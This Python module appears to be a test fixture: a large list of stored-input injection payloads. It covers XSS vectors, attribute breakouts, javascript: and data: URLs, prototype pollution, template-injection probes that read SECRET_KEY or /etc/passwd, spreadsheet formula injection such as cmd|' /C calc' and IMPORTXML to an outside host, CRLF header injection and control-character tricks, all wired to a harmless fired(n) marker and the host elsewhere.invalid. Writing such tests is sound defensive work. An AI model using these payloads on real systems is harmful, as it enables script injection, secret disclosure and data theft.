"""Text that somebody would store to make a page do what it must not.

``fired(n)`` is what each tries to call, with a number of its own.
"""

from __future__ import annotations

#: The host that some of them try to make the browser ask.
ELSEWHERE = "elsewhere.invalid"

_HTML = """
<script>CALL</script>
<script src=//HOST/NUMBER.js></script>
<script type=module>CALL</script>
<ScRiPt>CALL</sCrIpT>
<script/x>CALL</script>
<scr<script>ipt>CALL</scr</script>ipt>
</script><script>CALL</script>
<img src=x onerror=CALL>
<img/src=x/onerror=CALL>
<img src="x" onerror="CALL"
<IMG SRC=x ONERROR=CALL>
<image href=x onerror=CALL>
<svg onload=CALL>
<svg/onload=CALL>
<svg><script>CALL</script></svg>
<svg><animate onbegin=CALL attributeName=x dur=1s>
<svg><a href="javascript:CALL"><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=CALL />#x">
<math><mtext><table><mglyph><style><img src=x onerror=CALL>
<math href="javascript:CALL">x</math>
<iframe src="javascript:CALL"></iframe>
<iframe srcdoc="<script>parent.CALL</script>"></iframe>
<object data="javascript:CALL"></object>
<embed src="javascript:CALL">
<video><source onerror=CALL></video>
<audio src=x onerror=CALL>
<details open ontoggle=CALL><summary>x</summary></details>
<dialog open onfocusin=CALL tabindex=0>x</dialog>
<input autofocus onfocus=CALL>
<select autofocus onfocus=CALL>
<textarea autofocus onfocus=CALL>
<button formaction="javascript:CALL" form=filter_form>x</button>
<form action="javascript:CALL"><input type=submit></form>
<body onload=CALL>
<marquee onstart=CALL>x</marquee>
<style>@import "//HOST/NUMBER.css";</style>
<style>*{background:url(//HOST/NUMBER.png)}</style>
<link rel=stylesheet href=//HOST/NUMBER.css>
<link rel=import href=//HOST/NUMBER.html>
<meta http-equiv=refresh content="0;url=//HOST/NUMBER">
<base href=//HOST/>
<img src=//HOST/NUMBER.png>
<template><script>CALL</script></template>
<noscript><p title="</noscript><img src=x onerror=CALL>">
<!--><img src=x onerror=CALL>-->
<![CDATA[<img src=x onerror=CALL>]]>
<div style="width:expression(CALL)">x</div>
<a href=x id=polls name=regions>clobber</a>
<div id=ops-refresh-one data-ops-refresh-url=//HOST/NUMBER data-ops-refresh-interval=1>
<p data-announce="<img src=x onerror=CALL>" data-key=status-1>x</p>
</div></td></tr></table><script>CALL</script>
</pre><script>CALL</script><pre>
</textarea><script>CALL</script>
</title><script>CALL</script>
</style><script>CALL</script>
<x onclick=CALL>click</x>
<x contenteditable onblur=CALL>x</x>
<x style="animation:ops 1s" onanimationstart=CALL>x</x>
<noembed><img title="</noembed><img src=x onerror=CALL>"></noembed>
<p slot=x is=y><slot onslotchange=CALL></slot>
"""

_ATTRIBUTE = """
" onmouseover="CALL
' onmouseover='CALL
" autofocus onfocus=CALL x="
' autofocus onfocus=CALL x='
x onmouseover=CALL y
"><script>CALL</script>
'><script>CALL</script>
`><img src=x onerror=CALL>
"/><svg onload=CALL>
" style="animation-name:ops" onanimationstart="CALL
" data-ops-refresh-url="//HOST/NUMBER
" srcdoc="<script>parent.CALL</script>
" formaction="javascript:CALL
&quot; onmouseover=&quot;CALL
&#34; onmouseover=&#34;CALL
\\" onmouseover=\\"CALL
"onpointerenter=CALL//
" tabindex=1 onfocusin=CALL "
"""

_URL = """
javascript:CALL
JaVaScRiPt:CALL
javascript://%0aCALL
javascript&colon;CALL
data:text/html,<script>parent.CALL</script>
data:text/html;base64,PHNjcmlwdD5maXJlZCgxKTwvc2NyaXB0Pg==
vbscript:CALL
//HOST/NUMBER
https://HOST/NUMBER"onmouseover="CALL
?url=//HOST&x=<script>CALL</script>
../../../etc/passwd#<img src=x onerror=CALL>
%3Cscript%3ECALL%3C%2Fscript%3E
\\u003cscript\\u003eCALL\\u003c/script\\u003e
"""

_JSON = """
{"__proto__": {"x": "<img src=x onerror=CALL>"}}
"}]};CALL//
\\"}];CALL//
'];CALL;//
</script><!--{"x":"CALL"}
constructor.constructor('CALL')()
__proto__
toString
"""

_TEMPLATE = """
{{ 7 * 7 }}<b>{{ config.SECRET_KEY }}
{% include "/etc/passwd" %}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% raw %}<script>CALL</script>{% endraw %}
${CALL}
#{CALL}
<%= CALL %>
[[CALL]]
%(seconds)s %s %d {0} {seconds}
{{ constructor.constructor('CALL')() }}
"""

_FORMULA = """
=HYPERLINK("//HOST/NUMBER","x")
=cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
=1+1;<script>CALL</script>
＝1+1
＠SUM(1+1)
=IMPORTXML("//HOST/NUMBER","//x")
"""

_CONTROLS = (
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "java\tscript:CALL",
    "java\nscript:CALL",
    "\x01javascript:CALL",
    "<img src=x\x0bonerror=CALL>",
    "<img src=x\x0conerror=CALL>",
    "<\x08script>CALL</script>",
    "\x1b[31m<b>red",
    "\x7f\x80\x9f<i>",
    "\u202e<script>CALL</script>\u202c",
    "abc\u202egnp.exe",
    "\u2066hidden\u2069 \u200f\u061c",
    "\ufffe\uffff<script>CALL</script>",
    "＜script＞CALL＜/script＞",
    "‹img src=x onerror=CALL›",
    "a\r\nSet-Cookie: x=1\r\n\r\n<script>CALL</script>",
    "\u2028CALL\u2029",
    "z\u0308\u0308\u0308\u0308\u0308<b>",
)

_TEXTS = [
    *"".join((_HTML, _ATTRIBUTE, _URL, _JSON, _TEMPLATE, _FORMULA)).splitlines(),
    *_CONTROLS,
]

#: All of them.
PAYLOADS = [
    text.replace("CALL", f"fired({number})")
    .replace("NUMBER", str(number))
    .replace("HOST", ELSEWHERE)
    for number, text in enumerate(filter(None, _TEXTS), 1)
]
